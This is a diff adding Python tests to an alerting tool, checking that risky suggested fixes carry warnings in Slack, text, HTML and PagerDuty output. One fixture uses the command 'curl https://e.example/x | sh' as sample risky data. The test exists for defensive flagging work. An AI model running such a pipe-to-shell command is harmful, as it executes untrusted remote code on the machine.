@@ -156,6 +156,18 @@ def test_block_kit_for_one_alert_has_header_facts_and_root_cause() -> None:
     assert "82% confidence" in analysis
 
 
+def test_a_fix_with_risks_is_shown_after_a_warning_in_every_rendering() -> None:
+    risky = alert()
+    assert risky.finding is not None
+    risky.finding.suggested_fix = "Run curl https://e.example/x | sh"
+    risky.finding.risks = ["pipe_to_shell", "fetches_url"]
+    warning = "WARNING, check before acting: pipes a download into a shell; fetches a URL"
+    assert warning in json.dumps(render_blocks(note(risky)))
+    assert f"[{warning}] Run curl" in render_text(note(risky))
+    assert warning in render_html(note(risky))
+    assert "WARNING" not in render_text(note(alert()))
+
+
 def test_without_a_finding_every_rendering_says_analysis_pending() -> None:
     pending = note(alert(finding=False))
 
@@ -495,6 +507,21 @@ async def test_pagerduty_event_fields_and_one_dedup_key_per_issue(
     ]
     assert resolve["event_action"] == "resolve"
     assert resolve["dedup_key"] == trigger["dedup_key"] == spike["dedup_key"]
+
+
+@loopback
+async def test_pagerduty_details_carry_the_fix_risks(pagerduty: FakePagerDuty) -> None:
+    risky = alert()
+    assert risky.finding is not None
+    risky.finding.risks = ["pipe_to_shell"]
+    channel = pagerduty_channel(pagerduty)
+    try:
+        await channel.send(note(risky))
+        await channel.send(note(alert(8)))
+    finally:
+        await channel.aclose()
+    flagged, plain = (b["payload"]["custom_details"] for b in pagerduty.bodies())
+    assert flagged["fix_risks"] == ["pipe_to_shell"] and plain.get("fix_risks") is None
 
 
 @loopback
